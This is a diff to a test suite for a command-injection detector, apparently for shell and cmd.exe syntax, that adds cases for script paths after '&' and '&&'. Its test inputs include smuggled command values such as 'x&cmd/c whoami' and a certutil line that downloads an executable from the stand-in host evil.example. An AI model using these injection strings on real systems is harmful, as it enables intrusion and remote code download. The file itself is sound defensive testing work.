@@ -1666,8 +1666,9 @@ describe('cmdi session 20 (rtc23): ${x:-w} ${x=w} ${x+w} expand to their word; $
 describe("cmdi session 20 (rtc23): cmd.exe reads a switch glued to the command word after & | newline (whoami/all, cmd/c)", () => {
   it.each(['x&cmd/c whoami', 'x&whoami/all', 'x&ipconfig/all', 'x|whoami/all', 'x&&cmd/c whoami', 'x&dir/s/b c:\\',
     'x&certutil/urlcache/f http://evil.example/x x.exe', 'x&powershell/c whoami', 'x&cmd/c"whoami"'])('%s is a command', expectCmdi);
-  // a path goes on after the segment (bin/x.sh, cat/dogfood.png); a ';' is no cmd.exe separator; a word of digits is no switch
-  it.each(['x&bin/x.sh', 'R&D/IT', 'Tom & Jerry/Cartoons', 'x;whoami/all', 'x&cat/dogfood.png', 'x&dir/2024', 'Q&A/help-center'])('%s stays clean', expectNoCmdi);
+  // a path goes on after the segment (bin/x.txt, cat/dogfood.png); a ';' is no cmd.exe separator; a word of digits is no switch
+  // (x&bin/x.sh was here until session 22: sh runs that script from the working folder, see the cf26 block below)
+  it.each(['x&bin/x.txt', 'R&D/IT', 'Tom & Jerry/Cartoons', 'x;whoami/all', 'x&cat/dogfood.png', 'x&dir/2024', 'Q&A/help-center'])('%s stays clean', expectNoCmdi);
 });
 
 describe('cmdi session 20 (rtc23): a Windows absolute or UNC path after & | newline runs the program it names', () => {
@@ -1798,6 +1799,15 @@ describe('cmdi session 24 (rtd24): a bare program name opening a line', () => {
 describe('cmdi session 21 (rtd24): a relative path with a slash after | or a newline', () => {
   it.each(['x|uploads/run.sh', 'x\nuploads/a.sh', 'x|uploads/a.exe', 'x|tools/b/c.bat -q'])('%s is a command', expectCmdi);
   it.each(['x|docs/readme.md', 'x|a/b', 'Hi\nsee docs/setup.sh', 'and/or | yes/no', 'x|docs/a.txt'])('%s stays clean', expectNoCmdi);
+});
+
+// session 22 (cf26): the same relative path after '&' or '&&' (sh runs x&uploads/run.sh's second command from the working
+// folder as it does after ';'), and a one-letter first folder (x;b/c.sh); a document, a folder or a domain stays clean
+describe('cmdi session 22 (cf26): a relative path with a slash after & && or a one-letter folder', () => {
+  it.each(['x&&uploads/run.sh', 'x&uploads/run.sh', 'x && uploads/run.sh', 'x&uploads/a.ps1', 'a&&b/c.sh', 'x;b/c.sh',
+    'x&b/c.exe', 'x&bin/x.sh'])('%s is a command', expectCmdi);
+  it.each(['R&D/notes.txt', 'Q&A/faq.md', 'H&M.com/shop', 'R&D/docs', 'x&a/b', 'A&B/C.txt', 'a;b/c.txt', 'x;c:\\windows\\a.exe',
+    'see docs/readme.md', 'x;a/b'])('%s stays clean', expectNoCmdi);
 });
 
 describe('cmdi session 21 (rtc23): shell syntax only a command line has: a here-string, an array element as the command', () => {
